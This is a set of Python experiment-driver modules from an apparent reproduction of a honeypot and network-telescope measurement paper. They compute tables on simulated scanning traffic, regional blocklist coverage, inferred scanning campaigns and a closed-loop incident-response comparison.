        return f"== {self.experiment_id}: {self.title} ==\n{self.text}"


def resolve_context(
    context: Optional[ExperimentContext] = None, year: int = 2021
) -> ExperimentContext:
    """Use the provided context or build the default one for ``year``."""
    if context is not None:
        return context
    return get_context(ExperimentConfig(year=year))
