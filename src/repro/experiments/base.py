"""Common experiment-driver scaffolding and the map-reduce protocol.

Hot analyses run *shard-wise*: the orchestrator's merged dataset keeps
its per-shard table views (:class:`~repro.io.lazy.ShardedEventTable`
parts), and a driver that can express itself as mergeable partial
aggregates maps over each shard independently, then reduces.  The
contract mirrors classic map-reduce:

* ``map_shard(view) -> partial`` — compute a partial aggregate from one
  :class:`ShardView` (one shard's vantage tables).  Partials must be
  picklable (sets, dicts, numpy arrays) when a process pool is in play.
* ``reduce(partials) -> result`` — merge the per-shard partials.  For
  order-sensitive merges (first-occurrence semantics), partials carry
  ``(vantage position, shard position, row)`` sort keys; reducing by
  minimum key reproduces the merged row order exactly, which is how
  shard-wise results stay bit-identical to the single-process path.

:func:`run_shard_wise` executes the maps — in-process when the dataset
is unsharded (a single view over ``dataset.tables`` keeps one code
path), across the existing fork pool when the dataset has multiple
shards, a worker budget, and we are not already inside a daemonic pool
worker (the experiment scheduler's pool workers cannot spawn children).
"""

from __future__ import annotations

import multiprocessing
from dataclasses import dataclass
from typing import Any, Callable, Mapping, Optional, Sequence

from repro.experiments.context import ExperimentConfig, ExperimentContext, get_context

__all__ = [
    "ExperimentOutput",
    "resolve_context",
    "ShardView",
    "shard_views",
    "run_shard_wise",
]


@dataclass
class ExperimentOutput:
    """The result of one experiment driver.

    ``data`` holds the structured result (rows/series) so tests and
    benchmarks can assert on it; ``text`` is the rendered table the
    driver prints, mirroring the paper's presentation.
    """

    experiment_id: str
    title: str
    text: str
    data: Any

    def render(self) -> str:
        return f"== {self.experiment_id}: {self.title} ==\n{self.text}"


def resolve_context(
    context: Optional[ExperimentContext] = None, year: int = 2021
) -> ExperimentContext:
    """Use the provided context or build the default one for ``year``."""
    if context is not None:
        return context
    return get_context(ExperimentConfig(year=year))


# ----------------------------------------------------------------------
# map-reduce over shards
# ----------------------------------------------------------------------

@dataclass(frozen=True)
class ShardView:
    """One shard's slice of a merged dataset.

    ``tables`` maps vantage id → that shard's rows for the vantage (a
    lazy, memory-mapped :class:`~repro.io.table.EventTable`); ``order``
    maps vantage id → the vantage's position in the merged dataset, so
    order-sensitive reducers can build global sort keys
    ``(order[vantage_id], view.index, row)``.
    """

    index: int
    tables: Mapping[str, Any]
    order: Mapping[str, int]


def shard_views(dataset) -> list[ShardView]:
    """The dataset's shard views (a single whole-dataset view when
    unsharded, so mappers never special-case)."""
    if dataset.tables is None:
        raise ValueError("shard views require a columnar (table-backed) dataset")
    order = {vantage_id: position
             for position, vantage_id in enumerate(dataset.tables)}
    shard_tables = getattr(dataset, "shard_tables", None)
    if shard_tables:
        return [ShardView(index, tables, order)
                for index, tables in enumerate(shard_tables)]
    return [ShardView(0, dataset.tables, order)]


#: Set in the parent immediately before the map pool forks (the same
#: copy-on-write idiom the experiment scheduler uses); workers read it.
_MAP_STATE: Optional[tuple[Callable[[ShardView], Any], Sequence[ShardView]]] = None


def _run_map(index: int) -> Any:
    map_shard, views = _MAP_STATE
    return map_shard(views[index])


def _fork_available() -> bool:
    try:
        multiprocessing.get_context("fork")
    except ValueError:  # pragma: no cover - non-POSIX platforms
        return False
    return True


def run_shard_wise(
    map_shard: Callable[[ShardView], Any],
    reduce: Callable[[Sequence[Any]], Any],
    dataset,
) -> Any:
    """Execute ``map_shard`` over every shard view, then ``reduce``.

    Maps fan out across a fork pool when the dataset carries multiple
    shards and a ``map_workers`` budget > 1; otherwise they run
    in-process (which is also the nested-pool guard: scheduler pool
    workers are daemonic and cannot fork children of their own).
    """
    global _MAP_STATE
    views = shard_views(dataset)
    workers = int(getattr(dataset, "map_workers", 1) or 1)
    use_pool = (
        len(views) > 1
        and workers > 1
        and _fork_available()
        and not multiprocessing.current_process().daemon
    )
    if use_pool:
        _MAP_STATE = (map_shard, views)
        try:
            context = multiprocessing.get_context("fork")
            with context.Pool(processes=min(workers, len(views))) as pool:
                partials = pool.map(_run_map, range(len(views)))
        finally:
            _MAP_STATE = None
    else:
        partials = [map_shard(view) for view in views]
    return reduce(partials)
