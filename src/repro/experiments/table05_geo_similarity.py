"""Table 5 (and Table 13 for 2020): traffic similarity within/between
geo-locations."""

from __future__ import annotations

from typing import Optional

from repro.analysis.geography import geo_similarity
from repro.experiments.base import ExperimentOutput, resolve_context
from repro.experiments.context import ExperimentContext
from repro.reporting.tables import render_table


def run(context: Optional[ExperimentContext] = None, year: int = 2021) -> ExperimentOutput:
    context = resolve_context(context, year=year)
    summaries = geo_similarity(context.dataset)
    rows = [
        (
            s.slice_name,
            s.characteristic,
            s.grouping,
            f"{s.percent_similar:.0f}% ({s.num_similar}/{s.num_pairs})",
        )
        for s in summaries
        if s.num_pairs > 0
    ]
    text = render_table(["Slice", "Characteristic", "Grouping", "% similar pairs"], rows)
    experiment_id = "T5" if year == 2021 else "T13"
    return ExperimentOutput(experiment_id, f"Geographic similarity ({year})", text, summaries)
