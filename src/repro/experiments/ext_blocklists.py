"""X1: regional blocklist efficacy (the paper's Section 8 future work).

Builds continent-sourced blocklists from the first half of the week and
measures how much of each continent's second-half malicious traffic they
would have blocked.  With ``blocklist_path`` the continent-sourced lists
are replaced by one external file (paper-static or incident-emitted),
evaluated through the exact same coverage machinery.
"""

from __future__ import annotations

from typing import Optional

from repro.analysis.blocklists import (
    CONTINENT_GROUPS,
    RegionalCell,
    _continent_vantages,
    blocklist_coverage,
    load_blocklist_file,
    regional_blocklist_matrix,
)
from repro.experiments.base import ExperimentOutput, resolve_context
from repro.experiments.context import ExperimentContext
from repro.reporting.tables import render_table


def run(
    context: Optional[ExperimentContext] = None,
    blocklist_path: Optional[str] = None,
) -> ExperimentOutput:
    context = resolve_context(context)
    if blocklist_path is not None:
        ips, asns = load_blocklist_file(blocklist_path)
        train_hours = context.dataset.window.hours / 2.0
        cells = [
            RegionalCell(
                "file",
                group,
                blocklist_coverage(
                    context.dataset,
                    ips,
                    _continent_vantages(context.dataset, group),
                    from_hour=train_hours,
                    asns=asns,
                ),
            )
            for group in CONTINENT_GROUPS
        ]
    else:
        cells = regional_blocklist_matrix(context.dataset)
    rows = [
        (
            cell.source_group,
            cell.target_group,
            cell.coverage.blocklist_size,
            f"{cell.coverage.ip_coverage_pct:.0f}%",
            f"{cell.coverage.event_coverage_pct:.0f}%",
        )
        for cell in cells
    ]
    text = render_table(
        ["Blocklist source", "Applied at", "|Blocklist|", "Attacker-IP coverage",
         "Malicious-event coverage"],
        rows,
    )
    if blocklist_path is not None:
        overall = [c.coverage.event_coverage_pct for c in cells]
        text += (
            f"\nExternal blocklist ({blocklist_path}): mean second-half "
            f"malicious-event coverage {sum(overall) / len(overall):.0f}% "
            "across continents."
        )
    else:
        home = {c.target_group: c.coverage.event_coverage_pct
                for c in cells if c.source_group == c.target_group}
        imported_ap = [c.coverage.event_coverage_pct for c in cells
                       if c.target_group == "AP" and c.source_group != "AP"]
        text += (
            f"\nAP home coverage {home.get('AP', 0):.0f}% vs best imported "
            f"{max(imported_ap, default=0):.0f}% — regional campaigns make "
            "exported blocklists weakest in Asia Pacific."
        )
    return ExperimentOutput("X1", "Regional blocklist efficacy", text, cells)
