"""Table 6: clouds with honeypots in the same city/state."""

from __future__ import annotations

from typing import Optional

from repro.analysis.networks import colocated_cloud_pairs
from repro.experiments.base import ExperimentOutput, resolve_context
from repro.experiments.context import ExperimentContext
from repro.reporting.tables import render_table


def run(context: Optional[ExperimentContext] = None) -> ExperimentOutput:
    context = resolve_context(context)
    pairs = colocated_cloud_pairs(context.dataset)
    regions = sorted({region for _a, _b, region in pairs})
    networks = sorted({n for a, b, _r in pairs for n in (a, b)})
    matrix = {region: set() for region in regions}
    for a, b, region in pairs:
        matrix[region].update((a, b))
    rows = [
        tuple([region] + ["+" if network in matrix[region] else "" for network in networks])
        for region in regions
    ]
    text = render_table(["Region"] + networks, rows)
    return ExperimentOutput("T6", "Co-located cloud honeypots", text, pairs)
