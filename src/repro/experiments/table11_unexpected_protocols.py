"""Table 11 (and Table 17 for 2022): scanner-targeted protocols on
HTTP-assigned ports."""

from __future__ import annotations

from typing import Optional

from repro.analysis.ports import protocol_breakdown
from repro.experiments.base import ExperimentOutput, resolve_context
from repro.experiments.context import ExperimentContext
from repro.reporting.tables import render_table


def run(context: Optional[ExperimentContext] = None, year: int = 2021) -> ExperimentOutput:
    context = resolve_context(context, year=year)
    rows = protocol_breakdown(context.dataset)
    rendered = []
    for row in rows:
        rendered.append((f"HTTP/{row.port}", f"{row.matching_pct:.0f}%",
                         f"{row.matching_benign_pct:.0f}%", f"{row.matching_malicious_pct:.0f}%"))
        rendered.append((f"~HTTP/{row.port}", f"{row.unexpected_pct:.0f}%",
                         f"{row.unexpected_benign_pct:.0f}%", f"{row.unexpected_malicious_pct:.0f}%"))
    text = render_table(["Protocol/Port", "Breakdown", "% Benign", "% Malicious"], rendered)
    for row in rows:
        mix = ", ".join(f"{proto}={pct:.1f}%" for proto, pct in row.unexpected_protocols.items())
        text += f"\nport {row.port} unexpected mix: {mix}"
    return ExperimentOutput("T11" if year == 2021 else "T17",
                            f"Scanner-targeted protocols ({year})", text, rows)
