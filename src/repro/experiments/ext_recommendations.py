"""X4: the quantified Section 8 operator report."""

from __future__ import annotations

from typing import Optional

from repro.analysis.commands import command_summary
from repro.analysis.recommendations import operator_report
from repro.analysis.tags import tag_distribution, tag_sources
from repro.experiments.base import ExperimentOutput, resolve_context
from repro.experiments.context import ExperimentContext
from repro.reporting.tables import render_table


def run(context: Optional[ExperimentContext] = None) -> ExperimentOutput:
    context = resolve_context(context)
    recommendations = operator_report(context.dataset)
    rows = [
        (rec.number, rec.title, rec.metric, f"{rec.value:.0f}{rec.unit}", rec.verdict)
        for rec in recommendations
    ]
    text = render_table(["#", "Recommendation", "Evidence", "Value", "Action"], rows)

    tags = tag_sources(context.dataset)
    distribution = tag_distribution(tags)
    text += "\n\nactor tags (GreyNoise-style, by source-IP count):\n"
    for tag, count in distribution.items():
        text += f"  {tag:28s} {count}\n"

    shells = command_summary(context.dataset)
    text += (
        f"\npost-login shell sessions: {shells.sessions_logged_in} of "
        f"{shells.sessions_with_login_attempts} login-attempting sessions "
        f"reached a shell ({shells.login_success_rate:.0%}); "
        f"{shells.total_commands} commands captured\n"
    )
    for command, count in shells.top_commands[:5]:
        text += f"  {count:5d}x {command}\n"
    return ExperimentOutput(
        "X4", "Section 8 operator report",
        text,
        {"recommendations": recommendations, "tags": distribution, "shell": shells},
    )
