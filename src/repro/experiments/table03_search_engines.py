"""Table 3: impact of Internet service search engines on leaked honeypots."""

from __future__ import annotations

from typing import Optional

from repro.analysis.leak import leak_report, unique_credentials_per_group
from repro.experiments.base import ExperimentOutput, resolve_context
from repro.experiments.context import ExperimentContext
from repro.reporting.tables import render_table


def run(context: Optional[ExperimentContext] = None) -> ExperimentOutput:
    context = resolve_context(context)
    rows = leak_report(context.dataset)
    rendered = []
    for row in rows:
        fold = f"{row.fold:.1f}"
        if row.stochastically_greater:
            fold = f"**{fold}**"  # the paper's bold marker
        if row.distribution_differs:
            fold += "*"  # the paper's spike marker
        rendered.append((row.service, row.group, row.traffic, fold,
                         row.leaked_spikes, row.control_spikes))
    text = render_table(
        ["Service", "Leak group", "Traffic", "Fold increase/hr", "Leaked spikes", "Control spikes"],
        rendered,
    )
    credentials = unique_credentials_per_group(context.dataset, port=22)
    text += "\nAvg unique SSH passwords per honeypot: " + ", ".join(
        f"{name}={value:.1f}" for name, value in sorted(credentials.items())
    )
    return ExperimentOutput("T3", "Search-engine leak experiment", text,
                            {"rows": rows, "unique_passwords": credentials})
