"""Shared experiment context: one simulated dataset per configuration.

Every experiment driver needs a simulated week of traffic; building one
is the expensive step, so contexts are memoized per configuration and
shared across drivers, tests, and benchmarks.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from repro.analysis.dataset import AnalysisDataset
from repro.deployment.fleet import Deployment, build_full_deployment
from repro.scanners.population import PopulationConfig, build_population
from repro.sim.clock import WEEK_2020, WEEK_2021, WEEK_2022, ObservationWindow
from repro.sim.engine import SimulationConfig, SimulationResult, run_simulation
from repro.sim.rng import RngHub

__all__ = [
    "ExperimentConfig",
    "ExperimentContext",
    "get_context",
    "remember_context",
    "clear_context_cache",
]

_WINDOWS: dict[int, ObservationWindow] = {2020: WEEK_2020, 2021: WEEK_2021, 2022: WEEK_2022}


@dataclass(frozen=True)
class ExperimentConfig:
    """Configuration key for one simulated dataset."""

    year: int = 2021
    scale: float = 0.5
    telescope_slash24s: int = 16
    seed: int = 20230701

    def window(self) -> ObservationWindow:
        return _WINDOWS[self.year]


@dataclass
class ExperimentContext:
    """A built simulation plus its analysis dataset."""

    config: ExperimentConfig
    deployment: Deployment
    result: SimulationResult
    dataset: AnalysisDataset


_CACHE: dict[ExperimentConfig, ExperimentContext] = {}


def get_context(config: Optional[ExperimentConfig] = None) -> ExperimentContext:
    """Build (or fetch) the simulated dataset for a configuration."""
    config = config or ExperimentConfig()
    cached = _CACHE.get(config)
    if cached is not None:
        return cached

    hub = RngHub(config.seed)
    deployment = build_full_deployment(hub, num_telescope_slash24s=config.telescope_slash24s)
    population = build_population(PopulationConfig(year=config.year, scale=config.scale))
    result = run_simulation(
        deployment,
        population,
        SimulationConfig(seed=config.seed, window=config.window()),
    )
    context = ExperimentContext(
        config=config,
        deployment=deployment,
        result=result,
        dataset=AnalysisDataset.from_simulation(result),
    )
    _CACHE[config] = context
    return context


def remember_context(context: ExperimentContext) -> None:
    """Adopt an externally built context into the memo cache.

    The orchestrator (and drivers that invoke it, like X3) build
    contexts without going through :func:`get_context`; registering them
    here lets every later ``get_context(config)`` reuse the sharded,
    memory-mapped build instead of re-simulating in-process.  A context
    already memoized for the same configuration wins.
    """
    _CACHE.setdefault(context.config, context)


def clear_context_cache() -> None:
    """Drop memoized contexts (tests use this to control memory)."""
    _CACHE.clear()
