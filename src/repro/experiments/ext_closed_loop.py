"""X5: the closed loop — detect incidents, respond, measure the response.

The paper's blocklists (Section 8) are *static*: threat intelligence
gathered over a training window, applied afterwards.  The incident
subsystem closes the loop instead — rules watch the stream, runbooks
emit ASN blocklist entries the moment a campaign or fresh heavy hitter
is detected, and each entry activates the *next* hour.  This driver
quantifies what that buys:

* **auto arm** — the entries :func:`~repro.incident.pipeline.detect_incidents`
  emits, applied analytically over the merged dataset with
  :class:`~repro.incident.enforce.ActiveBlocklist` masks (shard-wise
  map-reduce, so sharded runs reproduce the single-process numbers
  bit for bit);
* **static arm** — the paper-style baseline: malicious source IPs seen
  in the first half of the window, active from the halfway point.  The
  list round-trips through a blocklist *file* (the same parser external
  lists use), so the paper-static path and the closed loop share one
  code path end to end;
* **detection latency** — per emitted entry, activation hour minus the
  offending AS's first appearance anywhere in the dataset;
* **enforced re-simulation** — the same entries handed to the engine's
  post-draw enforcer; the re-run must land on *exactly*
  ``baseline - analytically_blocked`` events (the closed loop's
  self-check that mask and hook agree).
"""

from __future__ import annotations

import os
import tempfile
from typing import Optional

import numpy as np

from repro.experiments.base import ExperimentOutput, resolve_context, run_shard_wise
from repro.experiments.context import ExperimentContext
from repro.incident.enforce import ActiveBlocklist
from repro.incident.pipeline import detect_incidents
from repro.reporting.tables import render_table


def closed_loop_metrics(
    context: ExperimentContext, verify_resim: bool = True
) -> dict:
    """Detect, respond, and account the response (the X5/bench core).

    Returns a flat dict of deterministic metrics; every aggregate is a
    shard-order-independent sum/min/union, so the values are identical
    for single-process and orchestrated datasets of the same seed.
    """
    dataset = context.dataset
    hours = float(dataset.window.hours)
    train_hours = hours / 2.0

    pipeline = detect_incidents(dataset)
    entries = tuple(pipeline.executor.blocklist)
    auto = ActiveBlocklist.from_entries(entries)
    auto_asns = tuple(sorted({entry.asn for entry in entries}))
    classify = dataset.classifier.is_malicious_parts

    def map_shard(view):
        cache: dict = {}
        total = auto_blocked = 0
        train_ips: set[int] = set()
        first_seen: dict[int, float] = {}
        for vantage_id in sorted(view.tables):
            table = view.tables[vantage_id]
            if len(table) == 0:
                continue
            stamps = np.asarray(table.timestamps, dtype=np.float64)
            asns = np.asarray(table.src_asn)
            ips = np.asarray(table.src_ip)
            total += len(table)
            auto_blocked += int(np.count_nonzero(auto.blocked_mask(stamps, asns, ips)))
            for asn in auto_asns:
                hits = stamps[asns == asn]
                if hits.size:
                    seen = float(hits.min())
                    if asn not in first_seen or seen < first_seen[asn]:
                        first_seen[asn] = seen
            # Static-arm training: malicious sources in the first half.
            in_train = np.flatnonzero(stamps < train_hours)
            if in_train.size:
                payloads = table.payloads
                dst_ports = table.dst_port
                credentials = table.credentials
                for row in in_train.tolist():
                    ip = int(ips[row])
                    if ip in train_ips:
                        continue
                    key = (payloads[row], int(dst_ports[row]), bool(credentials[row]))
                    verdict = cache.get(key)
                    if verdict is None:
                        verdict = classify(*key)
                        cache[key] = verdict
                    if verdict:
                        train_ips.add(ip)
        return {
            "total": total,
            "auto_blocked": auto_blocked,
            "train_ips": train_ips,
            "first_seen": first_seen,
        }

    def reduce(partials):
        merged = {"total": 0, "auto_blocked": 0,
                  "train_ips": set(), "first_seen": {}}
        for partial in partials:
            merged["total"] += partial["total"]
            merged["auto_blocked"] += partial["auto_blocked"]
            merged["train_ips"] |= partial["train_ips"]
            for asn, seen in partial["first_seen"].items():
                held = merged["first_seen"].get(asn)
                if held is None or seen < held:
                    merged["first_seen"][asn] = seen
        return merged

    scan = run_shard_wise(map_shard, reduce, dataset)

    # Static paper baseline: train-half malicious IPs, written to and
    # re-read from a blocklist file so both arms share the file parser.
    from repro.analysis.blocklists import load_blocklist_file, write_blocklist_file

    with tempfile.TemporaryDirectory(prefix="cloudwatching-x5-") as tmp:
        path = os.path.join(tmp, "static-blocklist.txt")
        write_blocklist_file(path, ips=scan["train_ips"])
        static_ips, static_asns = load_blocklist_file(path)
    static = ActiveBlocklist(
        ip_entries=[(ip, train_hours) for ip in static_ips],
        asn_entries=[(asn, train_hours) for asn in static_asns],
    )

    def map_static(view):
        blocked = 0
        for vantage_id in sorted(view.tables):
            table = view.tables[vantage_id]
            if len(table) == 0:
                continue
            mask = static.blocked_mask(
                np.asarray(table.timestamps, dtype=np.float64),
                np.asarray(table.src_asn),
                np.asarray(table.src_ip),
            )
            blocked += int(np.count_nonzero(mask))
        return blocked

    static_blocked = run_shard_wise(map_static, sum, dataset)

    latencies = sorted(
        entry.active_from - scan["first_seen"][entry.asn]
        for entry in entries
        if entry.asn in scan["first_seen"]
    )
    mean_latency = sum(latencies) / len(latencies) if latencies else 0.0

    total = scan["total"]
    summary = pipeline.summary()
    metrics = {
        "incidents": summary["incidents"],
        "resolved": summary["resolved"],
        "actions": summary["actions"],
        "audit_records": summary["audit_records"],
        "audit_digest": pipeline.audit.digest(),
        "blocklist_entries": [entry.as_dict() for entry in entries],
        "total_events": total,
        "auto_blocked_events": scan["auto_blocked"],
        "auto_volume_reduction_pct":
            100.0 * scan["auto_blocked"] / total if total else 0.0,
        "static_blocklist_size": len(static_ips) + len(static_asns),
        "static_blocked_events": static_blocked,
        "static_volume_reduction_pct":
            100.0 * static_blocked / total if total else 0.0,
        "mean_detection_latency_hours": mean_latency,
        "resim": None,
    }

    if verify_resim:
        from repro.scanners.population import PopulationConfig, build_population
        from repro.sim.engine import SimulationConfig, run_simulation

        config = context.config
        population = build_population(
            PopulationConfig(year=config.year, scale=config.scale)
        )
        enforced = run_simulation(
            context.deployment,
            population,
            SimulationConfig(seed=config.seed, window=config.window()),
            enforcer=auto,
        )
        enforced_total = sum(len(t) for t in enforced.tables().values())
        predicted = total - scan["auto_blocked"]
        metrics["resim"] = {
            "baseline_events": total,
            "enforced_events": enforced_total,
            "predicted_events": predicted,
            "exact": enforced_total == predicted,
        }
        if enforced_total != predicted:
            raise AssertionError(
                "closed-loop self-check failed: enforced re-simulation "
                f"produced {enforced_total} events, analytic prediction "
                f"was {predicted}"
            )
    return metrics


def run(
    context: Optional[ExperimentContext] = None,
    verify_resim: bool = True,
) -> ExperimentOutput:
    context = resolve_context(context)
    metrics = closed_loop_metrics(context, verify_resim=verify_resim)
    rows = [
        (
            "none (baseline)",
            "-",
            0,
            "0.0%",
            "-",
        ),
        (
            "closed loop (auto)",
            f"{len(metrics['blocklist_entries'])} ASN entries",
            metrics["auto_blocked_events"],
            f"{metrics['auto_volume_reduction_pct']:.1f}%",
            f"{metrics['mean_detection_latency_hours']:.1f}h",
        ),
        (
            "static (paper-style)",
            f"{metrics['static_blocklist_size']} IP entries",
            metrics["static_blocked_events"],
            f"{metrics['static_volume_reduction_pct']:.1f}%",
            f"{context.dataset.window.hours / 2.0:.0f}h (train split)",
        ),
    ]
    text = render_table(
        ["Response", "Blocklist", "Blocked events", "Volume reduction",
         "Mean detection latency"],
        rows,
    )
    text += (
        f"\n{metrics['incidents']} incident(s), {metrics['actions']} runbook "
        f"action(s); audit log {metrics['audit_records']} record(s) "
        f"(digest {metrics['audit_digest'][:12]})."
    )
    if metrics["resim"] is not None:
        resim = metrics["resim"]
        text += (
            f"\nEnforced re-simulation: {resim['enforced_events']:,} events vs "
            f"analytic prediction {resim['predicted_events']:,} — "
            + ("exact." if resim["exact"] else "MISMATCH.")
        )
    return ExperimentOutput("X5", "Closed-loop incident response", text, metrics)
