"""Appendix C temporal repeats: Tables 12-17 reuse the 2021 drivers on the
2020/2022 populations."""

from __future__ import annotations

from typing import Optional

from repro.experiments import (
    table02_neighborhoods,
    table04_geo_most_different,
    table05_geo_similarity,
    table07_network_types,
    table10_telescope_as,
    table11_unexpected_protocols,
)
from repro.experiments.base import ExperimentOutput
from repro.experiments.context import ExperimentConfig, ExperimentContext, get_context


def _year_context(year: int, context: Optional[ExperimentContext]) -> ExperimentContext:
    if context is not None:
        return context
    return get_context(ExperimentConfig(year=year))


def run_table12(context: Optional[ExperimentContext] = None) -> ExperimentOutput:
    """Table 12: neighboring-service differences on the 2020 population."""
    return table02_neighborhoods.run(_year_context(2020, context), year=2020)


def run_table13(context: Optional[ExperimentContext] = None) -> ExperimentOutput:
    """Table 13: geographic similarity on the 2020 population."""
    return table05_geo_similarity.run(_year_context(2020, context), year=2020)


def run_table14(context: Optional[ExperimentContext] = None) -> ExperimentOutput:
    """Table 14: network-type differences on the 2022 population."""
    return table07_network_types.run(_year_context(2022, context), year=2022)


def run_table15(context: Optional[ExperimentContext] = None) -> ExperimentOutput:
    """Table 15: telescope AS differences on the 2022 population."""
    return table10_telescope_as.run(_year_context(2022, context), year=2022)


def run_table16(context: Optional[ExperimentContext] = None) -> ExperimentOutput:
    """Table 16: most-different regions on the 2020 population."""
    return table04_geo_most_different.run(_year_context(2020, context), year=2020)


def run_table17(context: Optional[ExperimentContext] = None) -> ExperimentOutput:
    """Table 17: unexpected protocols on the 2022 population."""
    return table11_unexpected_protocols.run(_year_context(2022, context), year=2022)
