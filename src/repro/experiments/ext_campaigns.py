"""X2: scanning-campaign inference from captured traffic.

Clusters source IPs into coordinated campaigns by behavioral signature
(GreyNoise-style actor tagging) and summarizes the largest actors.
"""

from __future__ import annotations

from typing import Optional

from repro.analysis.campaigns import infer_campaigns
from repro.experiments.base import ExperimentOutput, resolve_context
from repro.experiments.context import ExperimentContext
from repro.reporting.tables import render_table


def run(context: Optional[ExperimentContext] = None) -> ExperimentOutput:
    context = resolve_context(context)
    campaigns = infer_campaigns(context.dataset, min_size=2)
    rows = [
        (
            campaign.campaign_id,
            campaign.size,
            ",".join(str(asn) for asn in sorted(campaign.asns)[:3]),
            ",".join(str(port) for port in sorted(campaign.ports)[:5]),
            "yes" if campaign.malicious else "no",
            campaign.event_count,
        )
        for campaign in campaigns[:15]
    ]
    text = render_table(
        ["Campaign", "#IPs", "ASNs", "Ports", "Malicious", "Events"], rows
    )
    text += f"\n{len(campaigns)} multi-IP campaigns inferred in total."
    return ExperimentOutput("X2", "Inferred scanning campaigns", text, campaigns)
