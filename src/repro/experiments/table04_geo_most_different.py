"""Table 4 (and Table 16 for 2020): regions with most different traffic."""

from __future__ import annotations

from typing import Optional

from repro.analysis.geography import most_different_regions
from repro.experiments.base import ExperimentOutput, resolve_context
from repro.experiments.context import ExperimentContext
from repro.reporting.tables import phi_cell, render_table
from repro.stats.contingency import cramers_v_magnitude


def run(context: Optional[ExperimentContext] = None, year: int = 2021) -> ExperimentOutput:
    context = resolve_context(context, year=year)
    cells = most_different_regions(context.dataset)
    rows = [
        (
            cell.network,
            cell.slice_name,
            cell.characteristic,
            cell.region if cell.region is not None else "-",
            phi_cell(cell.avg_phi, cramers_v_magnitude(cell.avg_phi, 1)) if cell.region else "-",
        )
        for cell in cells
    ]
    text = render_table(
        ["Network", "Slice", "Characteristic", "Most dif. region", "Avg. phi"], rows
    )
    experiment_id = "T4" if year == 2021 else "T16"
    return ExperimentOutput(
        experiment_id, f"Most different geographic regions ({year})", text, cells
    )
