"""Figure 1: address-structure preferences inside the telescope.

Panel (a): port 22 — preference for the first address of each /16.
Panel (b): port 445 — avoidance of any-255-octet addresses.
Panel (c): port 80 — milder 255-octet avoidance.
Panel (d): port 17128 — a campaign latched onto a handful of IPs.
"""

from __future__ import annotations

from typing import Optional

from repro.analysis.structure import figure1_series, structure_profile
from repro.experiments.base import ExperimentOutput, resolve_context
from repro.experiments.context import ExperimentContext
from repro.reporting.tables import ascii_plot

PANELS: tuple[tuple[str, int], ...] = (
    ("(a) port 22", 22),
    ("(b) port 445", 445),
    ("(c) port 80", 80),
    ("(d) port 17128", 17128),
)


def run(
    context: Optional[ExperimentContext] = None, rolling_window: int = 512
) -> ExperimentOutput:
    context = resolve_context(context)
    telescope = context.result.telescope
    profiles = {}
    sections = []
    for title, port in PANELS:
        series = figure1_series(telescope, port, window=rolling_window)
        profile = structure_profile(telescope, port)
        profiles[port] = profile
        summary = (
            f"mean={profile.mean_scanners:.1f} any255x={profile.any_255_ratio} "
            f"trailing255x={profile.trailing_255_ratio} "
            f"slash16first_x={profile.slash16_first_ratio} "
            f"top-target conc={profile.top_target_concentration:.1f}"
        )
        sections.append(
            ascii_plot(series, title=f"{title}: rolling avg of unique scanners per IP")
            + "\n"
            + summary
        )
    return ExperimentOutput(
        "F1", "Address-structure preferences", "\n\n".join(sections), profiles
    )
