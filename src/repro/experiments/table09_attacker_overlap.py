"""Table 9: attackers on SSH-assigned ports avoid telescopes."""

from __future__ import annotations

from typing import Optional

from repro.analysis.overlap import attacker_overlap
from repro.experiments.base import ExperimentOutput, resolve_context
from repro.experiments.context import ExperimentContext
from repro.reporting.tables import pct_cell, render_table


def run(context: Optional[ExperimentContext] = None) -> ExperimentOutput:
    context = resolve_context(context)
    rows = attacker_overlap(context.dataset)
    text = render_table(
        ["Port", "|Tel∩Mal.Cloud|/|Mal.Cloud|", "|Tel∩Mal.EDU|/|Mal.EDU|", "|Mal.Cloud|"],
        [
            (r.port, pct_cell(r.telescope_cloud_pct, 1), pct_cell(r.telescope_edu_pct, 1),
             r.malicious_cloud_size)
            for r in rows
        ],
    )
    return ExperimentOutput("T9", "Attacker overlap with the telescope", text, rows)
