"""Table 2: attackers target neighboring services differently (2021)."""

from __future__ import annotations

from typing import Optional

from repro.analysis.neighborhoods import neighborhood_report
from repro.experiments.base import ExperimentOutput, resolve_context
from repro.experiments.context import ExperimentContext
from repro.reporting.tables import phi_cell, render_table
from repro.stats.contingency import cramers_v_magnitude


def run(context: Optional[ExperimentContext] = None, year: int = 2021) -> ExperimentOutput:
    context = resolve_context(context, year=year)
    report = neighborhood_report(context.dataset)
    rows = []
    for cell in report.cells:
        rows.append(
            (
                cell.slice_name,
                cell.characteristic,
                f"{cell.percent_different:.0f}% ({cell.num_different}/{cell.num_neighborhoods})",
                phi_cell(cell.avg_phi, cramers_v_magnitude(cell.avg_phi, 2)),
            )
        )
    text = render_table(
        ["Slice", "Characteristic", "% neighborhoods w/ dif distributions", "Avg. phi"],
        rows,
    )
    experiment_id = "T2" if year == 2021 else "T12"
    return ExperimentOutput(experiment_id, f"Neighboring-service differences ({year})", text, report)
