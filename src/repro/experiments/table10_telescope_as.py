"""Table 10 (and Table 15 for 2022): different scanners target telescopes."""

from __future__ import annotations

from typing import Optional

from repro.analysis.networks import telescope_as_report
from repro.experiments.base import ExperimentOutput, resolve_context
from repro.experiments.context import ExperimentContext
from repro.reporting.tables import phi_cell, render_table
from repro.stats.contingency import cramers_v_magnitude


def run(context: Optional[ExperimentContext] = None, year: int = 2021) -> ExperimentOutput:
    context = resolve_context(context, year=year)
    cells = telescope_as_report(context.dataset)
    rows = [
        (
            cell.comparison,
            cell.slice_name,
            f"{cell.num_different}/{cell.num_sites}",
            phi_cell(cell.avg_phi, cramers_v_magnitude(cell.avg_phi, 2)),
        )
        for cell in cells
    ]
    text = render_table(["Comparison", "Slice", "# dif. sites", "Avg. phi"], rows)
    return ExperimentOutput("T10" if year == 2021 else "T15",
                            f"Telescope AS differences ({year})", text, cells)
