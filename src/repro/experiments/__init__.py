"""Experiment drivers: one per table/figure of the paper."""

from repro.experiments import (
    figure01_address_structure,
    method_maliciousness,
    table01_vantage_points,
    table02_neighborhoods,
    table03_search_engines,
    table04_geo_most_different,
    table05_geo_similarity,
    table06_colocated,
    table07_network_types,
    table08_telescope_overlap,
    table09_attacker_overlap,
    table10_telescope_as,
    table11_unexpected_protocols,
)
from repro.experiments.base import ExperimentOutput
from repro.experiments.context import (
    ExperimentConfig,
    ExperimentContext,
    clear_context_cache,
    get_context,
)

__all__ = [
    "ExperimentOutput", "ExperimentConfig", "ExperimentContext",
    "clear_context_cache", "get_context",
    "figure01_address_structure", "method_maliciousness",
